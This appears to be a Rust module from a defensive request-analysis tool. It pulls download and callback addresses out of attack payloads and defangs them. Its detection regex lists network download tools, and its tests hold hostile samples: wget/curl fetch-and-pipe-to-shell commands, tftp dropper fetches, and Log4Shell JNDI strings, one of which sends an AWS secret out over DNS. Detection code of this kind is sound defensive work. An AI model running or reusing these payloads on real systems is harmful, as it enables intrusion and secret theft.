//! Indicators of compromise: addresses that a payload would make its victim fetch or call.
//!
//! In: the forms of a request. Out: addresses, defanged, so that nobody and no program follows
//! them.

use std::ops::Range;
use std::sync::LazyLock;

use regex::bytes::{Regex, RegexBuilder};
use serde::Serialize;

use crate::text::Text;

/// Most addresses of one request. A payload with more fetches one dropper for many processors.
pub(crate) const MAX_INDICATORS: usize = 16;

/// Matches a program that fetches, and the first address after it; or the address of a JNDI
/// look-up. A `/` after the program's name makes it a user agent. An address may contain up to four
/// values that Log4j would fill in (<https://logging.apache.org/log4j/2.x/manual/lookups.html>).
const PATTERN: &str = r#"(?x)
    (?: \b (?:wget|curl|fetch|lynx|aria2c|tftp|ftpget|certutil|bitsadmin|iwr|invoke-webrequest|downloadstring|downloadfile)
        (?:\.exe)? [^/;|&\n\w] [^;|&\n]{0,60}?
    | \b jndi: )
    \b
    (   (?:(?:https?|tftp|ftp|ldaps?|rmi|dns|iiop|corba|nis|nds) :? [/\\]{2,4})
        (?: [^\s"'<>|;&`(){}$,+]{3,200} | [^\s"'<>|;&`(){}$,+]{0,200} LOOKUP [^\s"'<>|;&`(){}$,+]{0,100} )
        (?: LOOKUP [^\s"'<>|;&`(){}$,+]{0,100} ){0,3}
    |   \d{1,3} (?:\.\d{1,3}){3} (?: :\d{1,5} )? (?: /[^\s"'<>|;&`(){}$,+]{0,200} )?
    )"#;
/// Matches `${hostName}`, `${env:USER}` and others whose value depends on the victim. Other
/// look-ups are undone when a text is decoded.
const LOOKUP: &str = r"\$\{ (?: hostname | (?:ctx|date|docker|env|java|k8s|main|spring|sys|web) : [^{}\s:]{1,60} ) \}";

static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = PATTERN.replace("LOOKUP", LOOKUP);
    let built = RegexBuilder::new(&pattern).unicode(false).build();
    built.expect("a test uses it")
});

/// An address in a payload.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Indicator {
    /// The address, defanged: `hxxp://192.0.2.1[.]…`.
    pub address: String,
    /// Its range in the raw bytes, or the range that it was decoded from.
    #[serde(skip)]
    pub evidence: Range<usize>,
}

/// Returns the addresses that a request would make its victim fetch or call, each once.
pub(crate) fn indicators(raw: &[u8], forms: &[Text]) -> Vec<Indicator> {
    let mut indicators: Vec<Indicator> = Vec::new();
    for text in forms {
        for found in ADDRESS
            .captures_iter(&text.bytes)
            .filter_map(|captures| captures.get(1))
        {
            // The case of the raw byte is kept if the byte was sent unencoded.
            let in_its_case = |at: usize| match text.raw_range(at..at + 1) {
                place if place.len() == 1 => raw.get(place.start).copied(),
                _ => text.bytes.get(at).copied(),
            };
            let address = defanged(&found.range().filter_map(in_its_case).collect::<Vec<_>>());
            if indicators.len() < MAX_INDICATORS
                && indicators.iter().all(|held| held.address != address)
            {
                indicators.push(Indicator {
                    address,
                    evidence: text.raw_range(found.range()),
                });
            }
        }
    }
    // An address that is escaped in one form is plain in another one.
    let encoded = |indicator: &Indicator| indicator.address.contains('%');
    if indicators.iter().any(|indicator| !encoded(indicator)) {
        indicators.retain(|indicator| !encoded(indicator));
    }
    indicators
}

/// Makes an address harmless: another scheme, no dots in the host, nothing but printable ASCII.
fn defanged(address: &[u8]) -> String {
    let text: String = address
        .iter()
        .filter(|byte| byte.is_ascii_graphic())
        .copied()
        .map(char::from)
        .collect();
    let text = text.replace('\\', "/");
    let (scheme, rest) = match text
        .split_once(['/', ':'])
        .filter(|(scheme, _)| scheme.bytes().all(|byte| byte.is_ascii_alphabetic()))
    {
        Some((scheme, rest)) => (
            format!("{}://", scheme.replace("tt", "xx").replace("ftp", "fxp")),
            rest.trim_start_matches(['/', ':']),
        ),
        None => (String::new(), text.as_str()),
    };
    let end = rest.find('/').unwrap_or(rest.len());
    format!(
        "{scheme}{}{}",
        rest[..end].replace('.', "[.]"),
        &rest[end..]
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addresses(raw: &[u8]) -> Vec<String> {
        let sent = Text::raw(raw, 0);
        let decoded = sent.decoded(false);
        let forms: Vec<Text> = [Some(sent), decoded].into_iter().flatten().collect();
        indicators(raw, &forms)
            .into_iter()
            .map(|indicator| indicator.address)
            .collect()
    }

    #[test]
    fn downloads_and_call_backs_are_defanged() {
        for (raw, address) in [
            (
                &b"GET /?x=;wget+http://198.51.100.1/a.sh;sh+a.sh HTTP/1.1"[..],
                "hxxp://198[.]51[.]100[.]1/a.sh",
            ),
            (
                b"wget http:/\\/198.51.100.1/arm7;",
                "hxxp://198[.]51[.]100[.]1/arm7",
            ),
            (
                b"cd /tmp; wget 198.51.100.2:81/x -O y",
                "198[.]51[.]100[.]2:81/x",
            ),
            (
                b"wget+http://198.51.100.4/X.Sh+-O-|sh",
                "hxxp://198[.]51[.]100[.]4/X.Sh",
            ),
            (b"tftp -g -r mips 198.51.100.3;", "198[.]51[.]100[.]3"),
            (
                b"curl%20-s%20ftp%3A%2f%2fexample.com/q|sh",
                "fxp://example[.]com/q",
            ),
            (
                b"${jndi:ldap://example.com:1389/a}",
                "ldap://example[.]com:1389/a",
            ),
            (
                b"${jndi:ldap://${:-350}${:-864}.${hostName}.username.c4ib.oast.example}",
                "ldap://350864[.]${hostName}[.]username[.]c4ib[.]oast[.]example",
            ),
            (
                b"${jndi:dns://${env:AWS_SECRET}.${sys:user.name}.example.com/${ctx:a}b}",
                "dns://${env:AWS_SECRET}[.]${sys:user[.]name}[.]example[.]com/${ctx:a}b",
            ),
        ] {
            assert_eq!(addresses(raw), [address], "{}", raw.escape_ascii());
        }
    }

    #[test]
    fn ordinary_addresses_are_none() {
        for raw in [
            &b"GET / HTTP/1.1\r\nHost: 198.51.100.1\r\nUser-Agent: curl/8.1\r\nAccept: */*\r\n\r\n"
                [..],
            b"GET / HTTP/1.1\r\nReferer: http://example.com/\r\n\r\n",
            b"GET / HTTP/1.1\r\nUser-Agent: Wget/1.21 (+http://example.com)\r\n\r\n",
        ] {
            assert!(addresses(raw).is_empty(), "{:?}", addresses(raw));
        }
    }
}
